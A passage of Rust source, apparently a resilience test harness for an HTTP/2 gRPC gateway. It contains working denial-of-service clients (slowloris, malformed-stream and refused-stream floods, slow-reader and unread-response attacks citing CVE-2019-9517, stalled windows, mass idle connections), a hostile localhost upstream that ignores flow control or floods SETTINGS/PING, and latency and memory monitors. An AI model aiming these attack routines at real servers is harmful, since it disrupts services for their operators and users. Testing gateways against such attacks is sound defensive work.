    /// How long each closed connection lived, shortest first.
    pub close_times: Vec<Duration>,
    pub bytes_written: u64,
}

impl SlowlorisReport {
    pub fn summary(&self) -> String {
        let last = self
            .close_times
            .last()
            .map_or("-".into(), |d| format!("{:.2} s", d.as_secs_f64()));
        let first = self
            .close_times
            .first()
            .map_or("-".into(), |d| format!("{:.2} s", d.as_secs_f64()));
        format!(
            "slowloris: {} connections ({} failed to connect), {} closed by the peer \
             (first after {first}, last after {last}), {} still open; {} B written",
            self.connections,
            self.connect_failed,
            self.closed_by_peer,
            self.still_open,
            self.bytes_written
        )
    }
}

/// Slowloris: `connections` TCP connections held for `hold`; every other one sends the client
/// preface and SETTINGS one byte per `byte_every`, the rest send nothing at all. Records when
/// the peer closed each.
pub async fn slowloris(
    addr: SocketAddr,
    connections: usize,
    byte_every: Duration,
    hold: Duration,
) -> SlowlorisReport {
    let mut hello = PREFACE.to_vec();
    hello.extend(Frame::settings().encode());
    let hello = Arc::new(hello);
    let mut tasks = Vec::with_capacity(connections);
    for i in 0..connections {
        let hello = hello.clone();
        tasks.push(tokio::spawn(async move {
            let Ok(Ok(mut stream)) =
                tokio::time::timeout(HANDSHAKE, TcpStream::connect(addr)).await
            else {
                return None;
            };
            let _ = stream.set_nodelay(true);
            let opened = Instant::now();
            let until = opened + hold;
            let mut written = 0u64;
            let mut buf = [0u8; 1024];
            loop {
                let wake = if i % 2 == 1 && (written as usize) < hello.len() {
                    (Instant::now() + byte_every).min(until)
                } else {
                    until
                };
                tokio::select! {
                    read = stream.read(&mut buf) => match read {
                        Ok(0) | Err(_) => return Some((Some(opened.elapsed()), written)),
                        Ok(_) => {}
                    },
                    _ = tokio::time::sleep_until(wake.into()) => {
                        if Instant::now() >= until {
                            return Some((None, written));
                        }
                        let at = written as usize;
                        if stream.write_all(&hello[at..at + 1]).await.is_err() {
                            return Some((Some(opened.elapsed()), written));
                        }
                        written += 1;
                    }
                }
            }
        }));
    }
    let mut report = SlowlorisReport {
        connections,
        ..Default::default()
    };
    for task in tasks {
        match task.await.ok().flatten() {
            None => report.connect_failed += 1,
            Some((closed, written)) => {
                report.bytes_written += written;
                match closed {
                    Some(after) => {
                        report.closed_by_peer += 1;
                        report.close_times.push(after);
                    }
                    None => report.still_open += 1,
                }
            }
        }
    }
    report.close_times.sort();
    report
}

/// Malformed requests (no `:path`), stream after stream: each is a stream error the peer
/// must answer with RST_STREAM(PROTOCOL_ERROR). `limits.count` is in streams.
pub async fn invalid_frames(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let block = hpack_literal(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", &call.authority),
        ("content-type", "application/grpc"),
        ("jobid", &call.jobid),
    ]);
    let mut next = FIRST_STREAM;
    a.flood(&limits, |max| {
        let n = max.min(64);
        let mut bytes = Vec::new();
        for _ in 0..n {
            let flags = FLAG_END_HEADERS | FLAG_END_STREAM;
            bytes.extend(Frame::new(HEADERS, flags, next, block.clone()).encode());
            next = next.saturating_add(2).min(MAX_WINDOW);
        }
        (bytes, n)
    })
    .await;
    Ok(a.finish("invalid frames", limits.observe).await)
}

/// The slow reader with huge windows (CVE-2019-9517): SETTINGS_INITIAL_WINDOW_SIZE 2^31-1, the
/// connection window raised to 2^31-1, a small socket receive buffer, `streams` calls of
/// `call` (a server-streaming call asking for a lot), then nothing read for `hold`. Afterwards
/// it reads for `observe` to find out whether the peer closed the connection meanwhile.
pub async fn slow_reader(
    addr: SocketAddr,
    call: &Call,
    streams: u32,
    hold: Duration,
    observe: Duration,
) -> io::Result<Report> {
    let how = Connect {
        settings: vec![(SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW)],
        connection_window: Some(MAX_WINDOW),
        recv_buffer: Some(4096),
    };
    let mut a = Attacker::connect(addr, &how).await?;
    let started = Instant::now();
    let mut bytes = Vec::new();
    for _ in 0..streams {
        let id = a.next_stream();
        bytes.extend(call.request(id));
    }
    a.send(&bytes, u64::from(streams), started + HANDSHAKE)
        .await;
    tokio::time::sleep_until((started + hold).into()).await;
    a.report.sending = started.elapsed();
    Ok(a.finish("slow reader", observe).await)
}

/// A client that keeps sending calls and never reads their responses (CVE-2019-9517): windows
/// of 2^31-1 (so flow control never holds a response back), a 4 KiB socket receive buffer,
/// and new streams of `call`, batch after batch, as fast as the socket takes them, until
/// `limits.count` calls, `limits.duration`, or the peer closes. The responses queue at the
/// peer until it stops reading the requests too.
pub async fn unread_responses(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let how = Connect {
        settings: vec![(SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW)],
        connection_window: Some(MAX_WINDOW),
        recv_buffer: Some(4096),
    };
    let mut a = Attacker::connect(addr, &how).await?;
    let started = Instant::now();
    request_after_request(&mut a, call, &limits).await;
    // Still not reading once it has sent `limits.count` calls: for the rest of
    // `limits.duration` (or until a write fails) it sends one more call every 500 ms, unread —
    // so a gateway that stopped reading it has something to not read — and only then listens.
    let deadline = started + limits.duration;
    let mut next_call = Instant::now();
    while Instant::now() < deadline && !a.peer_gone() {
        if Instant::now() >= next_call {
            let id = a.next_stream();
            if !a.send(&call.request(id), 1, deadline).await {
                break;
            }
            next_call += Duration::from_millis(500);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    Ok(a.finish("unread responses", limits.observe).await)
}

/// Whole requests of `call`, stream after stream, 16 to a write, as `limits` allow.
async fn request_after_request(a: &mut Attacker, call: &Call, limits: &Limits) {
    let mut next = FIRST_STREAM;
    a.flood(limits, |max| {
        let n = max.min(16);
        let mut bytes = Vec::new();
        for _ in 0..n {
            bytes.extend(call.request(next));
            next = next.saturating_add(2).min(MAX_WINDOW);
        }
        (bytes, n)
    })
    .await;
    a.next_stream = next;
}

/// Streams beyond the peer's SETTINGS_MAX_CONCURRENT_STREAMS, stream after stream: whole
/// requests of `call` (one that stays open at the target, e.g. a delayed unary call) with
/// default windows, reading what comes back. A gateway refuses each extra stream with
/// RST_STREAM REFUSED_STREAM, which the RFC allows a client to retry — and a client that never
/// stops makes it read and refuse forever unless it counts them. `limits.count` is in streams.
pub async fn refused_streams(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    request_after_request(&mut a, call, &limits).await;
    Ok(a.finish("refused streams", limits.observe).await)
}

/// A client that abandons its calls: `streams` whole requests of `call` in one write, then
/// the connection closed at once. The gateway has calls to cancel — and, if it forwarded them,
/// as many upstream streams to reset at once on its shared target connections.
///
/// The close is a FIN right behind the requests (so every request arrives before it), then
/// the socket is dropped 200 ms later: a reset at once could make the kernel drop requests
/// not yet sent.
pub async fn abandoned_calls(addr: SocketAddr, call: &Call, streams: u32) -> io::Result<Report> {
    abandoned_calls_after(addr, call, streams, Duration::ZERO).await
}

/// As [`abandoned_calls`], closing the connection `after` the calls were sent instead of at
/// once: long enough for the gateway to have forwarded them.
pub async fn abandoned_calls_after(
    addr: SocketAddr,
    call: &Call,
    streams: u32,
    after: Duration,
) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    let started = Instant::now();
    let mut bytes = Vec::new();
    for _ in 0..streams {
        let id = a.next_stream();
        bytes.extend(call.request(id));
    }
    a.send(&bytes, u64::from(streams), started + HANDSHAKE)
        .await;
    tokio::time::sleep(after).await;
    let _ = a.writer.shutdown().await;
    a.report.sending = started.elapsed();
    tokio::time::sleep(Duration::from_millis(200)).await;
    let mut report = std::mem::take(&mut a.report);
    report.attack = "abandoned calls".into();
    report.note = "then closed the connection itself".into();
    Ok(report)
}

/// The stalled client: SETTINGS_INITIAL_WINDOW_SIZE 0, `streams` calls of `call`, and never a
/// WINDOW_UPDATE, for `hold` (reading what comes, which can only be headers). Then it closes.
pub async fn stalled_client(
    addr: SocketAddr,
    call: &Call,
    streams: u32,
    hold: Duration,
) -> io::Result<Report> {
    let how = Connect {
        settings: vec![(SETTINGS_INITIAL_WINDOW_SIZE, 0)],
        ..Default::default()
    };
    let mut a = Attacker::connect(addr, &how).await?;
    a.start_reading();
    let started = Instant::now();
    let mut bytes = Vec::new();
    for _ in 0..streams {
        let id = a.next_stream();
        bytes.extend(call.request(id));
    }
    a.send(&bytes, u64::from(streams), started + HANDSHAKE)
        .await;
    while started.elapsed() < hold && !a.peer_gone() {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    a.report.sending = started.elapsed();
    Ok(a.finish("stalled client", Duration::ZERO).await)
}

/// Idle, handshaken connections (see [`idle_connections`]).
#[derive(Debug, Default)]
pub struct IdleConnections {
    pub conns: Vec<TcpStream>,
    /// Connections that could not be opened or handshaken.
    pub failed: usize,
    pub first_error: Option<String>,
    /// How long opening them all took.
    pub elapsed: Duration,
}

impl IdleConnections {
    pub fn open(&self) -> usize {
        self.conns.len()
    }

    /// Connections the peer has closed since (a non-blocking look at each socket).
    pub fn closed_by_peer(&self) -> usize {
        let mut buf = [0u8; 256];
        self.conns
            .iter()
            .filter(|c| loop {
                match c.try_read(&mut buf) {
                    Ok(0) => break true,
                    Ok(_) => continue,
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => break false,
                    Err(_) => break true,
                }
            })
            .count()
    }

    /// Closes every connection at once, with a reset (no TIME_WAIT left behind).
    pub fn close(self) {
        for conn in self.conns {
            let _ = conn.set_zero_linger();
        }
    }

    /// Writes `bytes` on every open connection (e.g. the first byte of a frame header, to
    /// leave each holding part of a frame); returns on how many it was written.
    pub async fn write_each(&mut self, bytes: &[u8]) -> usize {
        let mut written = 0;
        for conn in &mut self.conns {
            if conn.write_all(bytes).await.is_ok() {
                written += 1;
            }
        }
        written
    }
}

/// `n` connections, each with the HTTP/2 handshake done (preface and SETTINGS out, the
/// server's SETTINGS in and acknowledged), then held open and idle; at most `parallel`
/// handshakes at once.
pub async fn idle_connections(addr: SocketAddr, n: usize, parallel: usize) -> IdleConnections {
    let started = Instant::now();
    let mut out = IdleConnections::default();
    let mut hello = PREFACE.to_vec();
    hello.extend(Frame::settings().encode());
    let hello = Arc::new(hello);
    let mut left = n;
    while left > 0 {
        let batch = left.min(parallel.max(1));
        left -= batch;
        let tasks: Vec<_> = (0..batch)
            .map(|_| {
                let hello = hello.clone();
                tokio::spawn(async move { handshake_only(addr, &hello).await })
            })
            .collect();
        for task in tasks {
            match task.await {
                Ok(Ok(conn)) => out.conns.push(conn),
                Ok(Err(e)) => {
                    out.failed += 1;
                    out.first_error.get_or_insert(e.to_string());
                }
                Err(e) => {
                    out.failed += 1;
                    out.first_error.get_or_insert(e.to_string());
                }
            }
        }
    }
    out.elapsed = started.elapsed();
    out
}

/// Connects, sends `hello` (preface and SETTINGS), reads up to the server's SETTINGS and
/// acknowledges it.
async fn handshake_only(addr: SocketAddr, hello: &[u8]) -> io::Result<TcpStream> {
    let work = async {
        let mut stream = TcpStream::connect(addr).await?;
        stream.set_nodelay(true)?;
        stream.write_all(hello).await?;
        let mut got: Vec<u8> = Vec::new();
        let mut buf = [0u8; 1024];
        loop {
            let n = stream.read(&mut buf).await?;
            if n == 0 {
                return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "closed"));
            }
            got.extend_from_slice(&buf[..n]);
            // Walk whole frames for a SETTINGS without ACK.
            let mut at = 0;
            let mut found = false;
            while got.len() >= at + 9 {
                let len = u32::from_be_bytes([0, got[at], got[at + 1], got[at + 2]]) as usize;
                if got[at + 3] == SETTINGS && got[at + 4] & FLAG_ACK == 0 {
                    found = true;
                    break;
                }
                at += 9 + len;
            }
            if found {
                break;
            }
        }
        stream.write_all(&Frame::settings_ack().encode()).await?;
        Ok(stream)
    };
    tokio::time::timeout(HANDSHAKE * 2, work)
        .await
        .map_err(|_| io::Error::new(io::ErrorKind::TimedOut, "handshake timed out"))?
}

// ---------------------------------------------------------------------------------------------
// Hostile targets: upstreams the gateway dials

/// How a [`HostileTarget`] treats the gateway.
#[derive(Debug, Clone, Copy)]
pub enum TargetMode {
    /// Answers every stream with response headers, then DATA far beyond the windows the
    /// gateway gave: as fast as it can up to what the gateway granted, then one full frame
    /// every `pace` — up to `max_bytes` per stream — until the gateway resets the stream or
    /// the connection. With `ack_settings` false it never acknowledges the gateway's SETTINGS.
    IgnoreWindows {
        ack_settings: bool,
        pace: Duration,
        max_bytes: u64,
    },
    /// Completes the handshake like a good server, and once a stream opens, floods SETTINGS
    /// and PING frames at the gateway and never reads again: at most `frames`, for at most
    /// `duration`.
    Flood { frames: u64, duration: Duration },
}

/// What a [`HostileTarget`] saw and did, over all its connections.
#[derive(Debug, Clone, Default)]
pub struct TargetLog {
    pub connections: usize,
    /// Request streams opened by the gateway.
    pub streams: usize,
    /// The gateway's SETTINGS_INITIAL_WINDOW_SIZE (65,535 if it did not send one).
    pub stream_window: u32,
    /// WINDOW_UPDATE increments from the gateway: on the connection, and on answered streams.
    pub connection_updates: u64,
    pub stream_updates: u64,
    /// DATA payload bytes written on the answered stream(s).
    pub data_written: u64,
    /// DATA bytes written, and the window granted for them (stream window + stream updates,
    /// or the connection's if smaller), when the gateway's error arrived.
    pub written_at_error: Option<u64>,
    pub granted_at_error: Option<u64>,
    /// The gateway's reaction: `("RST_STREAM" | "GOAWAY", code, debug)`.
    pub error: Option<(String, u32, String)>,
    /// Since the stream opened: when the gateway's error arrived.
    pub error_after: Option<Duration>,
    /// The gateway closed the connection.
    pub closed: bool,
    /// Flood mode: frames written, and a write that failed (the gateway closed).
    pub frames_flooded: u64,
    pub write_error: Option<String>,
}

impl TargetLog {
    /// The window the gateway granted: its stream window plus its stream updates, capped by
    /// the connection's 65,535 plus its connection updates.
    pub fn granted(&self) -> u64 {
        let stream = u64::from(self.stream_window) + self.stream_updates;
        let connection = 65_535 + self.connection_updates;
        stream.min(connection)
    }

    pub fn summary(&self) -> String {
        let error = match &self.error {
            Some((kind, code, debug)) => format!("{kind} {} {debug:?}", error_name(*code)),
            None => "no RST_STREAM or GOAWAY".into(),
        };
        format!(
            "target: {} connections, {} streams; {} DATA bytes written, granted {}; \
             at the error: written {:?}, granted {:?}, after {:?}; {error}; closed {}; \
             {} flood frames written{}",
            self.connections,
            self.streams,
            self.data_written,
            self.granted(),
            self.written_at_error,
            self.granted_at_error,
            self.error_after,
            self.closed,
            self.frames_flooded,
            self.write_error
                .as_ref()
                .map(|e| format!(", write failed: {e}"))
                .unwrap_or_default()
        )
    }
}

/// A raw HTTP/2 server on 127.0.0.1 that serves every connection with its [`TargetMode`].
pub struct HostileTarget {
    addr: SocketAddr,
    log: Arc<Mutex<TargetLog>>,
    tasks: Arc<Mutex<Vec<JoinHandle<()>>>>,
}

impl HostileTarget {
    /// On a port the kernel chooses.
    pub async fn start(mode: TargetMode) -> io::Result<HostileTarget> {
        HostileTarget::start_on(0, mode).await
    }

    /// On `port` of 127.0.0.1 (0: one the kernel chooses).
    pub async fn start_on(port: u16, mode: TargetMode) -> io::Result<HostileTarget> {
        let listener = TcpListener::bind(("127.0.0.1", port)).await?;
        let addr = listener.local_addr()?;
        let log = Arc::new(Mutex::new(TargetLog {
            stream_window: 65_535,
            ..Default::default()
        }));
        let tasks: Arc<Mutex<Vec<JoinHandle<()>>>> = Arc::default();
        let (accept_log, accept_tasks) = (log.clone(), tasks.clone());
        let accept = tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                accept_log.lock().unwrap().connections += 1;
                let log = accept_log.clone();
                let task = tokio::spawn(async move {
                    let _ = serve_hostile(socket, mode, log).await;
                });
                accept_tasks.lock().unwrap().push(task);
            }
        });
        tasks.lock().unwrap().push(accept);
        Ok(HostileTarget { addr, log, tasks })
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    pub fn log(&self) -> TargetLog {
        self.log.lock().unwrap().clone()
    }

    /// Waits up to `limit` for the gateway's error (or its close), then a little longer for
    /// the close; the log.
    pub async fn wait_outcome(&self, limit: Duration) -> TargetLog {
        let deadline = Instant::now() + limit;
        loop {
            let log = self.log();
            if log.error.is_some() || log.closed || Instant::now() >= deadline {
                return log;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
}

impl Drop for HostileTarget {
    fn drop(&mut self) {
        for task in self.tasks.lock().unwrap().drain(..) {
            task.abort();
        }
    }
}

/// What the reading side of a hostile connection shares with its writer.
#[derive(Debug, Default)]
struct TargetConn {
    /// Streams the gateway opened, not yet taken by the writer.
    opened: Vec<u32>,
    /// Streams the gateway reset.
    reset: HashSet<u32>,
    goaway: bool,
    closed: bool,
}

/// Serves one gateway connection in `mode`.
async fn serve_hostile(
    socket: TcpStream,
    mode: TargetMode,
    log: Arc<Mutex<TargetLog>>,
) -> io::Result<()> {
    socket.set_nodelay(true)?;
    let (mut rd, wr) = socket.into_split();
    let wr = Arc::new(tokio::sync::Mutex::new(wr));
    let mut preface = vec![0u8; PREFACE.len()];
    rd.read_exact(&mut preface).await?;
    if preface != PREFACE {
        return Err(io::Error::new(io::ErrorKind::InvalidData, "not a preface"));
    }
    wr.lock()
        .await
        .write_all(&Frame::settings().encode())
        .await?;
    let conn = Arc::new(Mutex::new(TargetConn::default()));
    let ack_settings = !matches!(
        mode,
        TargetMode::IgnoreWindows {
            ack_settings: false,
            ..
        }
    );
    // The reader: answers SETTINGS (unless told not to) and PING, and records the gateway's
    // windows, streams, resets and GOAWAY.
    let (reader_conn, reader_log, reader_wr) = (conn.clone(), log.clone(), wr.clone());
    let reader = tokio::spawn(async move {
        let mut raw = HalfReader {
            rd,
            buf: Vec::new(),
        };
        loop {
            let frame = match raw.next().await {
                Ok(Some(frame)) => frame,
                _ => {
                    reader_conn.lock().unwrap().closed = true;
                    reader_log.lock().unwrap().closed = true;
                    return;
                }
            };
            match frame.kind {
                SETTINGS if !frame.is_ack() => {
                    if let Some(window) = frame.setting(SETTINGS_INITIAL_WINDOW_SIZE) {
                        reader_log.lock().unwrap().stream_window = window;
                    }
                    if ack_settings {
                        let ack = Frame::settings_ack().encode();
                        let _ = reader_wr.lock().await.write_all(&ack).await;
                    }
                }
                PING if !frame.is_ack() => {
                    let ack = Frame::ping_ack(&frame.payload).encode();
                    let _ = reader_wr.lock().await.write_all(&ack).await;
                }
                HEADERS => {
                    reader_log.lock().unwrap().streams += 1;
                    reader_conn.lock().unwrap().opened.push(frame.stream);
                }
                WINDOW_UPDATE => {
                    let inc = u64::from(frame.window_increment().unwrap_or(0));
                    let mut log = reader_log.lock().unwrap();
                    if frame.stream == 0 {
                        log.connection_updates += inc;
                    } else {
                        log.stream_updates += inc;
                    }
                }
                RST_STREAM => {
                    let code = frame.rst_code().unwrap_or(u32::MAX);
                    reader_conn.lock().unwrap().reset.insert(frame.stream);
                    let mut log = reader_log.lock().unwrap();
                    if log.error.is_none() {
                        log.error = Some(("RST_STREAM".into(), code, String::new()));
                        log.written_at_error = Some(log.data_written);
                        log.granted_at_error = Some(log.granted());
                    }
                }
                GOAWAY => {
                    reader_conn.lock().unwrap().goaway = true;
                    let mut log = reader_log.lock().unwrap();
                    if let Some(g) = frame.as_goaway() {
                        if log.error.is_none() && g.code != 0 {
                            log.error = Some((
                                "GOAWAY".into(),
                                g.code,
                                String::from_utf8_lossy(&g.debug).into_owned(),
                            ));
                            log.written_at_error = Some(log.data_written);
                            log.granted_at_error = Some(log.granted());
                        }
                    }
                }
                _ => {}
            }
        }
    });
    let result = match mode {
        TargetMode::IgnoreWindows {
            pace, max_bytes, ..
        } => ignore_windows(&wr, &conn, &log, pace, max_bytes).await,
        TargetMode::Flood { frames, duration } => {
            // Wait for a stream, then stop reading and flood.
            let deadline = Instant::now() + Duration::from_secs(60);
            loop {
                if !conn.lock().unwrap().opened.is_empty() {
                    break;
                }
                if conn.lock().unwrap().closed || Instant::now() >= deadline {
                    reader.abort();
                    return Ok(());
                }
                tokio::time::sleep(Duration::from_millis(2)).await;
            }
            reader.abort();
            let until = Instant::now() + duration;
            let result = flood_gateway(&wr, &log, frames, duration).await;
            // Hold the connection (still not reading) for the rest of `duration`: whether and
            // when it ends is the gateway's doing, not ours.
            if log.lock().unwrap().write_error.is_none() {
                tokio::time::sleep_until(until.into()).await;
            }
            result
        }
    };
    // Keep reading (if the reader still runs) until the gateway closes, briefly.
    let _ = tokio::time::timeout(Duration::from_secs(5), reader).await;
    result
}

/// Whole frames from the reading half of a socket.
struct HalfReader {
    rd: OwnedReadHalf,
    buf: Vec<u8>,
}

impl HalfReader {
    /// The next frame; `None` at end of file.
    async fn next(&mut self) -> io::Result<Option<Frame>> {
        loop {
            if self.buf.len() >= 9 {
                let b = &self.buf;
                let len = u32::from_be_bytes([0, b[0], b[1], b[2]]) as usize;
                if b.len() >= 9 + len {
                    let frame = Frame::new(
                        b[3],
                        b[4],
                        u32::from_be_bytes([b[5], b[6], b[7], b[8]]) & MAX_WINDOW,
                        b[9..9 + len].to_vec(),
                    );
                    self.buf.drain(..9 + len);
                    return Ok(Some(frame));
                }
            }
            let mut chunk = [0u8; 16 << 10];
            let n = self.rd.read(&mut chunk).await?;
            if n == 0 {
                return Ok(None);
            }
            self.buf.extend_from_slice(&chunk[..n]);
        }
    }
}

/// IgnoreWindows: answers the first stream the gateway opens with headers and DATA, ignoring
/// every window.
async fn ignore_windows(
    wr: &tokio::sync::Mutex<OwnedWriteHalf>,
    conn: &Mutex<TargetConn>,
    log: &Mutex<TargetLog>,
    pace: Duration,
    max_bytes: u64,
) -> io::Result<()> {
    let deadline = Instant::now() + Duration::from_secs(60);
    let stream = loop {
        if let Some(&s) = conn.lock().unwrap().opened.first() {
            break s;
        }
        if conn.lock().unwrap().closed || Instant::now() >= deadline {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(2)).await;
    };
    let opened = Instant::now();
    let head = hpack_literal(&[(":status", "200"), ("content-type", "application/grpc")]);
    wr.lock()
        .await
        .write_all(&Frame::new(HEADERS, FLAG_END_HEADERS, stream, head).encode())
        .await?;
    // The body: EchoReply messages of about 16 KiB, cut into full DATA frames.
    let reply = grpc_frame(
        &EchoReply {
            payload: pattern(MAX_FRAME - 64, 3),
            upstream: "hostile".into(),
            ..Default::default()
        }
        .encode_to_vec(),
    );
    let mut body: Vec<u8> = Vec::new();
    let stop = Instant::now() + Duration::from_secs(30);
    let mut written = 0u64;
    while written < max_bytes && Instant::now() < stop {
        {
            let c = conn.lock().unwrap();
            if c.closed || c.goaway || c.reset.contains(&stream) {
                break;
            }
        }
        while body.len() < MAX_FRAME {
            body.extend_from_slice(&reply);
        }
        let chunk: Vec<u8> = body.drain(..MAX_FRAME).collect();
        let within = written + MAX_FRAME as u64 <= log.lock().unwrap().granted();
        if let Err(e) = wr
            .lock()
            .await
            .write_all(&Frame::data(stream, &chunk, false).encode())
            .await
        {
            log.lock().unwrap().write_error = Some(e.to_string());
            break;
        }
        written += MAX_FRAME as u64;
        {
            let mut log = log.lock().unwrap();
            log.data_written = written;
            if log.error.is_some() && log.error_after.is_none() {
                log.error_after = Some(opened.elapsed());
            }
        }
        if !within {
            tokio::time::sleep(pace).await;
        }
    }
    let mut log = log.lock().unwrap();
    if log.error.is_some() && log.error_after.is_none() {
        log.error_after = Some(opened.elapsed());
    }
    Ok(())
}

/// Flood: SETTINGS and PING frames, alternating, as fast as the socket takes them.
async fn flood_gateway(
    wr: &tokio::sync::Mutex<OwnedWriteHalf>,
    log: &Mutex<TargetLog>,
    frames: u64,
    duration: Duration,
) -> io::Result<()> {
    let mut pair = Frame::settings().encode();
    pair.extend(Frame::ping(*b"targetfl").encode());
    let batch = pair.repeat(2048);
    let deadline = Instant::now() + duration;
    let mut w = wr.lock().await;
    let mut sent = 0u64;
    while sent < frames && Instant::now() < deadline {
        match tokio::time::timeout_at(deadline.into(), w.write_all(&batch)).await {
            Ok(Ok(())) => {
                sent += 4096;
                log.lock().unwrap().frames_flooded = sent;
            }
            Ok(Err(e)) => {
                let mut log = log.lock().unwrap();
                log.write_error = Some(e.to_string());
                log.closed = true;
                break;
            }
            Err(_) => break,
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// The bystander and the memory watch

/// A well-behaved client: unary calls through the gateway, one at a time, one every
/// `interval`, each with its own deadline; it must keep working while an attack runs.
pub struct Bystander {
    stop: Arc<AtomicBool>,
    task: JoinHandle<BystanderReport>,
}

/// What a [`Bystander`]'s calls met.
#[derive(Debug, Clone, Default)]
pub struct BystanderReport {
    /// Calls measured (the warm-up call is not one of them).
    pub calls: usize,
    pub ok: usize,
    /// Calls made before measuring began: the first call of the connection.
    pub warm_up: usize,
    /// Each failed call: when (since the start) and why.
    pub failures: Vec<String>,
    /// Latency of every successful call, in microseconds, in call order.
    pub latencies_us: Vec<u64>,
    /// The longest call, failed or not.
    pub slowest: Duration,
}

impl BystanderReport {
    /// The `p`th percentile (0..=100) of successful calls' latency.
    pub fn percentile(&self, p: f64) -> Option<Duration> {
        if self.latencies_us.is_empty() {
            return None;
        }
        let mut sorted = self.latencies_us.clone();
        sorted.sort_unstable();
        let rank = ((p / 100.0) * sorted.len() as f64).ceil() as usize;
        let at = rank.clamp(1, sorted.len()) - 1;
        Some(Duration::from_micros(sorted[at]))
    }

    pub fn summary(&self) -> String {
        let ms = |d: Option<Duration>| {
            d.map_or("-".into(), |d| format!("{:.2} ms", d.as_secs_f64() * 1e3))
        };
        format!(
            "{} calls, {} ok, p50 {}, p99 {}, slowest {:.2} ms, failures {:?}",
            self.calls,
            self.ok,
            ms(self.percentile(50.0)),
            ms(self.percentile(99.0)),
            self.slowest.as_secs_f64() * 1e3,
            self.failures.iter().take(5).collect::<Vec<_>>()
        )
    }
}

impl Bystander {
    /// Connects (one HTTP/2 connection of its own) and starts calling.
    pub async fn start(
        gateway: SocketAddr,
        jobid: &str,
        interval: Duration,
        deadline: Duration,
    ) -> Bystander {
        let mut client = connect(gateway).await;
        // One call first, not counted: the connection's own start-up is not the gateway's
        // latency under attack.
        let warm = routed(EchoRequest::default(), jobid);
        let _ = tokio::time::timeout(deadline, client.unary(warm)).await;
        let stop = Arc::new(AtomicBool::new(false));
        let stopping = stop.clone();
        let jobid = jobid.to_owned();
        let task = tokio::spawn(async move {
            let started = Instant::now();
            let mut report = BystanderReport {
                warm_up: 1,
                ..Default::default()
            };
            let mut ticks = tokio::time::interval(interval);
            ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
            let mut seq = 0u32;
            while !stopping.load(Ordering::SeqCst) {
                ticks.tick().await;
                if stopping.load(Ordering::SeqCst) {
                    break;
                }
                seq += 1;
                let payload = pattern(64, seq);
                let request = routed(
                    EchoRequest {
                        payload: payload.clone(),
                        ..Default::default()
                    },
                    &jobid,
                );
                let at = Instant::now();
                let outcome = tokio::time::timeout(deadline, client.unary(request)).await;
                let took = at.elapsed();
                report.calls += 1;
                report.slowest = report.slowest.max(took);
                let when = format!("{:.2} s", started.elapsed().as_secs_f64());
                match outcome {
                    Ok(Ok(reply)) if reply.get_ref().payload == payload => {
                        report.ok += 1;
                        report.latencies_us.push(took.as_micros() as u64);
                    }
                    Ok(Ok(_)) => report.failures.push(format!("{when}: wrong payload")),
                    Ok(Err(status)) => report.failures.push(format!(
                        "{when}: {:?} {:?}",
                        status.code(),
                        status.message()
                    )),
                    Err(_) => report
                        .failures
                        .push(format!("{when}: no answer within {deadline:?}")),
                }
            }
            report
        });
        Bystander { stop, task }
    }

    /// Stops after the call in progress; what the calls met.
    pub async fn stop(self) -> BystanderReport {
        self.stop.store(true, Ordering::SeqCst);
        self.task.await.unwrap_or_default()
    }
}

/// A process's resident set size (`VmRSS` of `/proc/<pid>/status`), in bytes.
pub fn rss_bytes(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb * 1024)
}

/// Samples memory (any `sample` function, e.g. [`rss_bytes`] of one pid) on its own thread
/// every `every`, keeping the peak.
pub struct RssWatch {
    stop: Arc<AtomicBool>,
    peak: Arc<AtomicU64>,
    last: Arc<AtomicU64>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl RssWatch {
    pub fn start(sample: impl Fn() -> Option<u64> + Send + 'static, every: Duration) -> RssWatch {
        let stop = Arc::new(AtomicBool::new(false));
        let peak = Arc::new(AtomicU64::new(sample().unwrap_or(0)));
        let last = Arc::new(AtomicU64::new(peak.load(Ordering::SeqCst)));
        let (s, p, l) = (stop.clone(), peak.clone(), last.clone());
        let thread = std::thread::Builder::new()
            .name("rss-watch".into())
            .spawn(move || {
                while !s.load(Ordering::SeqCst) {
                    if let Some(v) = sample() {
                        l.store(v, Ordering::SeqCst);
                        p.fetch_max(v, Ordering::SeqCst);
                    }
                    std::thread::sleep(every);
                }
            })
            .expect("spawn the RSS watch");
        RssWatch {
            stop,
            peak,
            last,
            thread: Some(thread),
        }
    }

    /// The highest sample so far.
    pub fn peak(&self) -> u64 {
        self.peak.load(Ordering::SeqCst)
    }

    /// The latest sample.
    pub fn last(&self) -> u64 {
        self.last.load(Ordering::SeqCst)
    }

    /// Resolves once a sample is above `limit`.
    pub async fn exceeds(&self, limit: u64) {
        while self.peak() <= limit {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }

    /// Stops sampling; the peak.
    pub fn stop(mut self) -> u64 {
        self.halt();
        self.peak()
    }

    fn halt(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Drop for RssWatch {
    fn drop(&mut self) {
        self.halt();
    }
}
